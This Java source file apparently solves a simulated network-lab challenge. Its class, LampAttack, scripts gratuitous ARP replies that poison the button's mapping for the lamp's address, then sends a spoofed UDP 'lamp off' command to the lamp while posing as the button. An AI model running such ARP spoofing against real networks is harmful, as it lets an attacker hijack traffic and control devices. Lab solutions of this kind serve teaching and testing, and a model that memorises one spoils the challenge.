package org.quintain.app.replay;

import java.util.ArrayList;
import java.util.List;
import org.quintain.core.Bytes;
import org.quintain.net.sim.TimedFrame;
import org.quintain.net.wire.Endpoints;
import org.quintain.net.wire.Frames;
import org.quintain.net.wire.Ipv4Address;
import org.quintain.net.wire.MacAddress;

/** Scripts for the lamp. */
final class LampAttack {
    private LampAttack() {}

    /** Asks for the button, tells it a lie about the lamp, and lies as the button to the lamp. */
    static LampLab.Answer poison(LampLab.Challenge challenge, int lies) {
        int button = Ipv4Address.of(challenge.button());
        int lamp = Ipv4Address.of(challenge.lamp());
        long lampMac = MacAddress.of(challenge.lampMac());
        long own = 0;
        for (int i = 0; i < 6; i++) {
            own = own << 8 | challenge.card().mac().at(i) & 0xFF;
        }
        List<TimedFrame> script = new ArrayList<>();
        script.add(new TimedFrame(100_000, Bytes.of(Frames.arpRequest(own, (lamp & ~0xFF) | 250, button))));
        for (int i = 0; i < lies; i++) {
            long time = 1_200_000 + i * 1000L;
            script.add(new TimedFrame(time, Bytes.of(Frames.arp(MacAddress.BROADCAST, own, 1, own, lamp, 0, lamp))));
        }
        byte[] text = "lamp off".getBytes(java.nio.charset.StandardCharsets.US_ASCII);
        Endpoints asButton = new Endpoints(own, button, lampMac, lamp);
        script.add(new TimedFrame(2_500_000, Bytes.of(Frames.udp(asButton, 4001, 4000, text))));
        return new LampLab.Answer(script);
    }
}
